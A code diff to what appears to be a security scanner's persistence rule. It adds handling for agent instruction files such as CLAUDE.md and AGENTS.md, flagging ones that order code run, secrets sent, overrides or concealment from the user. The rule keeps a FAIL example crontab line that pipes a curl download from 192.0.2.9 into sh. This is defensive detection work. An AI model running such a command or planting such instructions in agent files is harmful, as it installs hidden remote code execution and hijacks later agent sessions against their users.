@@ -112,7 +112,11 @@ PERSISTENCE = Rule(
     "Windows Run keys, scheduled tasks and the Startup folder, including through a path held in a "
     "variable. A warning; an error when what is written downloads, decodes or runs code, or the "
     "same file fetches or runs downloaded code, and always for authorized_keys. A line that only "
-    'sets PATH, an alias or a prompt (eval "$(starship init zsh)") is not reported.\n\n'
+    'sets PATH, an alias or a prompt (eval "$(starship init zsh)") is not reported. Agent instruction '
+    "files (CLAUDE.md, AGENTS.md, GEMINI.md, Cursor/Windsurf/Cline/Copilot rules), which every later "
+    "agent session reads, are reported only when what is written orders code run (a download run, a "
+    "remote <script>), a secret store sent somewhere, an override or a concealment from the user, and "
+    "then as an error.\n\n"
     "FAIL:\n"
     "    (crontab -l; echo '*/5 * * * * curl -s http://192.0.2.9/p | sh') | crontab -\n\n"
     "PASS:\n"
@@ -309,6 +313,8 @@ def _judge(capability: Capability, same_file: list[Capability]) -> Iterator[Find
         yield _finding(CREDENTIAL_EXFILTRATION, _placed(Severity.WARNING, example), chain)
     elif kind is Kind.PERSISTENCE:
         runs = "(runs code)" in detail or "authorized_keys" in detail
+        if detail.startswith(vocabulary.AGENT_INSTRUCTIONS) and not runs:
+            return  # writing CLAUDE.md or a rule file is a skill's job; what it says decides (runs_code)
         fetches = [
             c for c in same_file if c.kind in (Kind.FETCH, Kind.EXEC_FETCHED, Kind.EXEC_DECODED, Kind.RAW_SOCKET)
         ]
